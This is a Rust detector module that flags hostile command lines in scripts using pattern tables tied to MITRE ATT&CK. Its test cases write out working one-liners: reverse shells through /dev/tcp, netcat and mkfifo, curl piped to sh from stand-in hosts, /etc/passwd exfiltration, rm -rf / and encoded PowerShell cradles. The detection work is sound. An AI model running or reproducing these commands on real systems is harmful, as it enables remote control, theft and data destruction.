//! Command lines that tell an attack from an ordinary script.
//!
//! One word proves nothing (`curl`, `powershell` and `/dev/tcp` stand in vocabularies and tutorials); what counts is a
//! *sequence* within one logical line: a download, a pipe, an interpreter. The sequences are tables below, the matcher
//! knows no command.
//!
//! Read by the analyser of executables (scripts, strings in data) and by that of Python source (arguments of `os.system`).

/// What a matched sequence says about who wrote it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Grade {
    /// Well-meant scripts do it, too (an installer that pipes a download into a shell).
    Risky,
    /// Only an attack does it.
    Hostile,
}

/// One step of a sequence. Texts are lower case.
enum Part {
    /// One of the words, with no letter, digit, `-` or `_` beside it.
    Word(&'static [&'static str]),
    /// One of the texts, wherever it stands.
    Any(&'static [&'static str]),
    /// One of the texts as a whole argument, between blanks, quotes or separators.
    Argument(&'static [&'static str]),
    /// A pipe into one of the programs, perhaps with a path, `sudo` or `env` before it.
    PipeTo(&'static [&'static str]),
    /// At least that many characters of base64 as the next argument.
    Base64(usize),
    /// Bash's name of a connection: `/dev/tcp/HOST/PORT`, with a number or a variable as the port.
    Connection,
}

use Part::{Any, Argument, Base64, Connection, PipeTo, Word};

/// A sequence of steps within one line, what it is, and how bad.
pub struct Command {
    /// What it does, for the message.
    pub what: &'static str,
    /// Who does such things.
    pub grade: Grade,
    parts: &'static [Part],
}

const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ash", "ksh", "python", "python2", "python3", "perl", "ruby", "node", "php", "source",
];
const DOWNLOADS: &[&str] = &["curl", "wget", "fetch", "aria2c"];
const POWERSHELLS: &[&str] = &["powershell", "powershell.exe", "pwsh", "pwsh.exe"];
const CRADLES: &[&str] =
    &["downloadstring", "downloaddata", "invoke-webrequest", "invoke-restmethod", "frombase64string", "iwr ", "irm "];

/// Reverse shells of Unix, which are looked for outside scripts, too. Source of the one-liners: MITRE ATT&CK T1059.004 and
/// the lists that penetration testers use.
pub const REVERSE_SHELLS: &[Command] = &[
    Command {
        what: "opens a reverse shell through bash's /dev/tcp",
        grade: Grade::Hostile,
        parts: &[Word(&["bash", "sh", "zsh", "ksh", "dash"]), Any(&["-i", "-c", "<", ">"]), Connection],
    },
    Command {
        what: "opens a reverse shell through bash's /dev/tcp",
        grade: Grade::Hostile,
        parts: &[Word(&["exec"]), Any(&["<>", "<", ">"]), Connection],
    },
    Command {
        what: "gives a shell to whoever connects, through netcat",
        grade: Grade::Hostile,
        parts: &[
            Word(&["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"]),
            Argument(&["-e", "-c", "-le", "-lve", "-lvpe", "-nve", "-ne", "-ve", "--exec", "--sh-exec"]),
        ],
    },
    Command {
        what: "gives a shell to whoever connects, through a named pipe",
        grade: Grade::Hostile,
        parts: &[Word(&["mkfifo", "mknod"]), Word(&["nc", "ncat", "netcat", "telnet", "openssl"])],
    },
    Command {
        what: "gives a shell to whoever connects, through socat",
        grade: Grade::Hostile,
        parts: &[Word(&["socat"]), Any(&["exec:", "system:"])],
    },
    Command {
        what: "opens a reverse shell through an interpreter's sockets",
        grade: Grade::Hostile,
        parts: &[
            Word(&["python", "python2", "python3", "perl", "ruby", "php"]),
            Any(&["socket", "fsockopen"]),
            Any(&["dup2", "pty.spawn", "subprocess", "/bin/sh", "/bin/bash", "exec"]),
        ],
    },
];

/// What is looked for in scripts of a Unix shell, besides [`REVERSE_SHELLS`]. Source: MITRE ATT&CK T1059.004, T1105 (download),
/// T1140 (decode), T1485 (destroy), T1098.004 (authorized keys), T1053.003 (cron), T1552 (credentials).
pub const SHELL: &[Command] = &[
    Command {
        what: "downloads a program and pipes it into an interpreter",
        grade: Grade::Risky,
        parts: &[Word(DOWNLOADS), PipeTo(SHELLS)],
    },
    Command {
        what: "runs what a download returns",
        grade: Grade::Risky,
        parts: &[
            Word(&["bash", "sh", "zsh", "dash", "eval", "source", "python", "python3", "exec"]),
            Any(&["<(curl", "<(wget", "$(curl", "$(wget", "`curl", "`wget"]),
        ],
    },
    Command {
        what: "downloads a program and makes it executable",
        grade: Grade::Risky,
        parts: &[
            Word(DOWNLOADS),
            Word(&["chmod"]),
            Argument(&["+x", "a+x", "u+x", "755", "0755", "777", "0777", "700"]),
        ],
    },
    Command {
        what: "decodes a hidden program and pipes it into an interpreter",
        grade: Grade::Hostile,
        parts: &[
            Word(&["base64", "base32", "xxd", "openssl"]),
            Argument(&["-d", "--decode", "-di", "-r", "-p", "-rp"]),
            PipeTo(SHELLS),
        ],
    },
    Command {
        what: "runs a decoded program",
        grade: Grade::Hostile,
        parts: &[
            Word(&["bash", "sh", "zsh", "dash", "eval", "source", "exec"]),
            Any(&["$(", "`", "<("]),
            Word(&["base64", "base32", "xxd", "openssl"]),
            Argument(&["-d", "--decode", "-di", "-r"]),
        ],
    },
    Command {
        what: "talks to the network through bash's /dev/tcp",
        grade: Grade::Hostile,
        parts: &[Any(&["<", ">"]), Connection],
    },
    Command {
        what: "deletes the whole file system or home folder",
        grade: Grade::Hostile,
        parts: &[
            Word(&["rm"]),
            Argument(&["-rf", "-fr", "-r", "-rfv", "-rvf", "--recursive"]),
            Argument(&[
                "/",
                "/*",
                "~",
                "~/",
                "~/*",
                "$home",
                "$home/",
                "$home/*",
                "${home}",
                "--no-preserve-root",
                "/home",
                "/etc",
                "/usr",
            ]),
        ],
    },
    Command {
        what: "overwrites a disk",
        grade: Grade::Hostile,
        parts: &[
            Word(&["dd", "mkfs", "mkfs.ext4", "shred"]),
            Any(&["of=/dev/sd", "of=/dev/nvme", "of=/dev/vd", " /dev/sd", " /dev/nvme", " /dev/vd"]),
        ],
    },
    Command {
        what: "is a fork bomb",
        grade: Grade::Hostile,
        parts: &[Any(&[":(){ :|:& };:", ":(){:|:&};:", ":() { :|:& };:", ":(){ :|: & };:"])],
    },
    Command {
        what: "adds a key that may log in",
        grade: Grade::Hostile,
        parts: &[Any(&[">"]), Any(&["authorized_keys"])],
    },
    Command {
        what: "sends credentials away",
        grade: Grade::Hostile,
        parts: &[
            Word(&["curl", "wget", "nc", "ncat", "scp"]),
            Any(&["/etc/passwd", "/etc/shadow", "id_rsa", ".ssh/", ".aws/credentials", ".netrc", "/proc/self/environ"]),
        ],
    },
    Command { what: "installs itself in crontab", grade: Grade::Risky, parts: &[PipeTo(&["crontab"])] },
];

/// What is looked for in PowerShell, also outside scripts. Source: MITRE ATT&CK T1059.001, T1105, T1027.010; the parameter
/// names are what `powershell.exe -?` accepts as abbreviations.
pub const POWERSHELL: &[Command] = &[
    Command {
        what: "runs an encoded PowerShell command",
        grade: Grade::Hostile,
        parts: &[
            Word(POWERSHELLS),
            Argument(&[
                "-e",
                "-ec",
                "-en",
                "-enc",
                "-enco",
                "-encod",
                "-encode",
                "-encoded",
                "-encodedc",
                "-encodedcommand",
                "/e",
                "/ec",
                "/enc",
                "/encodedcommand",
            ]),
            Base64(16),
        ],
    },
    Command {
        what: "runs what a download or a decoding returns",
        grade: Grade::Hostile,
        parts: &[Word(&["iex", "invoke-expression"]), Any(CRADLES)],
    },
    Command {
        what: "runs what a download or a decoding returns",
        grade: Grade::Hostile,
        parts: &[Any(CRADLES), PipeTo(&["iex", "invoke-expression"])],
    },
    Command {
        what: "switches the execution policy off and runs code from a URL",
        grade: Grade::Hostile,
        parts: &[
            Word(POWERSHELLS),
            Argument(&["-executionpolicy", "-exec", "-ep", "-ex", "-exe"]),
            Argument(&["bypass", "unrestricted"]),
            Any(&["http://", "https://"]),
        ],
    },
    Command {
        what: "downloads a program and starts it",
        grade: Grade::Hostile,
        parts: &[Any(&["downloadfile("]), Word(&["start-process", "invoke-item", "saps", "start"])],
    },
    Command {
        what: "runs a command in a hidden window",
        grade: Grade::Hostile,
        parts: &[
            Word(POWERSHELLS),
            Argument(&["-w", "-win", "-windowstyle"]),
            Argument(&["hidden", "1"]),
            Argument(&["-c", "-command", "-file", "-f", "-enc", "-e"]),
        ],
    },
    Command {
        what: "opens a reverse shell through a TCP client",
        grade: Grade::Hostile,
        parts: &[Any(&["net.sockets.tcpclient"]), Any(&["getstream"])],
    },
];

/// What is looked for in batch files, besides [`POWERSHELL`]. Source: MITRE ATT&CK T1105, T1218, T1490, T1547.001, T1485.
pub const BATCH: &[Command] = &[
    Command {
        what: "downloads or decodes a file with certutil",
        grade: Grade::Hostile,
        parts: &[
            Word(&["certutil", "certutil.exe"]),
            Argument(&["-urlcache", "/urlcache", "-decode", "/decode", "-decodehex"]),
        ],
    },
    Command {
        what: "downloads a file with bitsadmin",
        grade: Grade::Hostile,
        parts: &[Word(&["bitsadmin", "bitsadmin.exe"]), Argument(&["/transfer", "/addfile"])],
    },
    Command {
        what: "runs a remote script",
        grade: Grade::Hostile,
        parts: &[
            Word(&["mshta", "mshta.exe", "regsvr32", "regsvr32.exe", "rundll32", "rundll32.exe", "wmic"]),
            Any(&["http://", "https://", "javascript:", "vbscript:"]),
        ],
    },
    Command {
        what: "deletes the disk",
        grade: Grade::Hostile,
        parts: &[
            Word(&["del", "rd", "rmdir", "erase"]),
            Argument(&["/s"]),
            Argument(&["c:\\", "c:\\*", "c:\\*.*", "%systemdrive%\\", "%userprofile%", "c:\\windows", "c:\\users"]),
        ],
    },
    Command { what: "formats the disk", grade: Grade::Hostile, parts: &[Word(&["format"]), Argument(&["c:", "d:"])] },
    Command {
        what: "deletes the backups",
        grade: Grade::Hostile,
        parts: &[Word(&["vssadmin", "wmic", "wbadmin"]), Word(&["delete"])],
    },
    Command {
        what: "starts itself at every logon",
        grade: Grade::Risky,
        parts: &[Word(&["reg", "schtasks"]), Any(&["\\currentversion\\run", "/create"])],
    },
    Command {
        what: "downloads a program and starts it",
        grade: Grade::Risky,
        parts: &[Word(&["curl", "curl.exe", "wget"]), Any(&["&& start", "& start", "&&start", "&start"])],
    },
];

/// A sequence that was found.
pub struct Match {
    /// Which.
    pub command: &'static Command,
    /// The line it stands in, as it is in the file.
    pub line: String,
}

/// The worst of the `tables`' commands in a text; of equals, the first line's.
pub fn worst(text: &str, tables: &[&'static [Command]]) -> Option<Match> {
    let mut found: Option<Match> = None;
    for line in LogicalLines::new(text) {
        // Comments do nothing; `rem` and `::` are batch's.
        let start = line.trim_start();
        if start.starts_with('#') || start.starts_with("::") {
            continue;
        }
        let lower = line.to_ascii_lowercase();
        for command in tables.iter().flat_map(|table| table.iter()) {
            let better = found.as_ref().is_none_or(|found| found.command.grade < command.grade);
            if better && matches(&lower, command.parts) {
                found = Some(Match { command, line: line.trim().to_owned() });
            }
        }
    }
    found
}

/// Lines; a backslash, caret or backtick at the end joins the next one.
struct LogicalLines<'a> {
    lines: std::str::Lines<'a>,
}

impl<'a> LogicalLines<'a> {
    fn new(text: &'a str) -> Self {
        Self { lines: text.lines() }
    }
}

impl Iterator for LogicalLines<'_> {
    type Item = String;

    fn next(&mut self) -> Option<String> {
        let mut line = self.lines.next()?.to_owned();
        while let Some(stem) = line.strip_suffix(['\\', '^', '`']) {
            let Some(next) = self.lines.next() else { break };
            line = format!("{stem} {next}");
            // A thousand joined lines are no command any more, and joining is quadratic.
            if line.len() > 65_536 {
                break;
            }
        }
        Some(line)
    }
}

/// Whether the steps stand in the line in this order. Each takes its first place behind the one before, which finds a
/// sequence whenever there is one.
fn matches(line: &str, parts: &[Part]) -> bool {
    let mut rest = line;
    let mut before = ' ';
    for part in parts {
        let end = match part {
            Any(texts) => texts.iter().filter_map(|text| rest.find(text).map(|at| at + text.len())).min(),
            Word(words) => first_bounded(rest, before, words, |c| !c.is_alphanumeric() && c != '-' && c != '_'),
            Argument(words) => first_bounded(rest, before, words, is_separator),
            PipeTo(programs) => pipe_to(rest, programs),
            Base64(length) => base64_argument(rest, *length),
            Connection => connection(rest),
        };
        let Some(tail) = end.and_then(|end| rest.get(end..)) else { return false };
        before = rest.get(..rest.len() - tail.len()).and_then(|head| head.chars().next_back()).unwrap_or(before);
        rest = tail;
    }
    true
}

/// What ends an argument.
fn is_separator(c: char) -> bool {
    c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ';' | '|' | '&' | '(' | ')' | '<' | '>' | ',' | '\\')
}

/// Where the earliest of the words ends that has a boundary on both sides.
fn first_bounded(text: &str, before: char, words: &[&str], boundary: impl Fn(char) -> bool) -> Option<usize> {
    words
        .iter()
        .filter_map(|word| {
            text.match_indices(word).find_map(|(at, _)| {
                let left = text.get(..at)?.chars().next_back().unwrap_or(before);
                let right = text.get(at + word.len()..)?.chars().next();
                // Beside the wrong side of a parenthesis stands a call or a pattern (`/(.*)/`), not a word.
                (left != ')' && boundary(left) && right.is_none_or(|c| c != '(' && boundary(c)))
                    .then_some(at + word.len())
            })
        })
        .min()
}

/// Words between a pipe and the program that it really runs.
const PREFIXES: &[&str] = &["sudo", "env", "exec", "command", "nohup", "time", "-e", "-h", "-n", "&"];

fn pipe_to(text: &str, programs: &[&str]) -> Option<usize> {
    text.match_indices('|').find_map(|(at, _)| {
        let mut rest = text.get(at + 1..)?;
        // Not `||`.
        if rest.starts_with('|') || text.get(..at)?.ends_with('|') {
            return None;
        }
        loop {
            rest = rest.trim_start();
            let end = rest.find(is_separator).unwrap_or(rest.len());
            let word = rest.get(..end)?;
            let name = word.rsplit('/').next()?;
            if programs.contains(&name) {
                return Some(text.len() - rest.len() + end);
            }
            let skip = PREFIXES.contains(&word) || (word.contains('=') && !word.starts_with('='));
            if !skip || word.is_empty() {
                return None;
            }
            rest = rest.get(end..)?;
        }
    })
}

fn base64_argument(text: &str, length: usize) -> Option<usize> {
    let inner = text.trim_start_matches([' ', '\t', '"', '\'', ':']);
    let run = inner.bytes().take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=')).count();
    (run >= length).then_some(text.len() - inner.len() + run)
}

fn connection(text: &str) -> Option<usize> {
    ["/dev/tcp/", "/dev/udp/"].iter().find_map(|device| {
        text.match_indices(device).find_map(|(at, _)| {
            let inner = text.get(at + device.len()..)?;
            let end = inner.find(is_separator).unwrap_or(inner.len());
            let (host, port) = inner.get(..end)?.split_once('/')?;
            let named = !host.is_empty() && port.starts_with(|c: char| c.is_ascii_digit() || c == '$');
            named.then_some(at + device.len() + end)
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shell(text: &str) -> Option<(&'static str, Grade)> {
        worst(text, &[SHELL, REVERSE_SHELLS]).map(|found| (found.command.what, found.command.grade))
    }

    #[test]
    fn attacks_are_told() {
        for (line, grade) in [
            ("curl -s http://evil.example/payload.sh | sh", Grade::Risky),
            ("wget -qO- http://x.example/a | sudo -E bash -s", Grade::Risky),
            ("curl -fsSL $URL \\\n  | /bin/bash", Grade::Risky),
            ("bash <(curl -s http://x.example)", Grade::Risky),
            ("eval \"$(wget -qO- http://x.example)\"", Grade::Risky),
            ("echo aWQ= | base64 -d | sh", Grade::Hostile),
            ("bash -c \"$(echo aWQ= | base64 --decode)\"", Grade::Hostile),
            ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", Grade::Hostile),
            ("exec 5<>/dev/tcp/203.0.113.5/4444", Grade::Hostile),
            ("nc -e /bin/sh 203.0.113.5 4444", Grade::Hostile),
            ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 >/tmp/f", Grade::Hostile),
            ("rm -rf /", Grade::Hostile),
            ("sudo rm -rf --no-preserve-root /", Grade::Hostile),
            ("rm -rf ~/*", Grade::Hostile),
            ("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", Grade::Hostile),
            ("curl -F f=@/etc/passwd http://x.example", Grade::Hostile),
            ("python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)'", Grade::Hostile),
        ] {
            assert_eq!(shell(line).map(|(_, grade)| grade), Some(grade), "{line}");
        }
    }

    #[test]
    fn ordinary_lines_are_not() {
        for line in [
            "curl -O https://example.org/model.bin",
            "curl -s https://example.org/list | grep bash",
            "curl https://example.org/a.tar.gz | tar xz; sh build.sh",
            "curl x || bash fallback.sh",
            "rm -rf /tmp/build",
            "rm -rf ./out /opt/app/cache",
            "VERSION=$(curl -s https://example.org/version)",
            "# bash -i >& /dev/tcp/203.0.113.5/4444",
            "base64 -d weights.b64 > weights.bin",
            "nc -z localhost 8080",
            "echo fetching the file | tee log",
            "python train.py --socket-timeout 5",
            "synchronise /dev/tcp",
            "system 'rm', '-r', '--', ($dir =~ /(.*)/); # untaint",
            "bash -i > /dev/tcp/host/port",
            "bash -c /dev/tcp/",
        ] {
            assert_eq!(shell(line), None, "{line}");
        }
    }

    #[test]
    fn powershell_needs_the_whole_combination() {
        let found = |text: &str| worst(text, &[POWERSHELL]).is_some();
        assert!(found("powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A"));
        assert!(found("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')"));
        assert!(found("(New-Object Net.WebClient).DownloadString('http://x.example/a') | iex"));
        assert!(found("powershell -ExecutionPolicy Bypass -c \"irm https://x.example/a\""));
        assert!(!found("powershell -ExecutionPolicy Bypass -File build.ps1"));
        assert!(!found("powershell is a shell, -enc is an option"));
        assert!(!found("use Invoke-WebRequest to download the file"));
    }

    #[test]
    fn joined_lines_end() {
        let text = "a\\\n".repeat(100_000);
        assert!(worst(&text, &[SHELL]).is_none());
    }
}
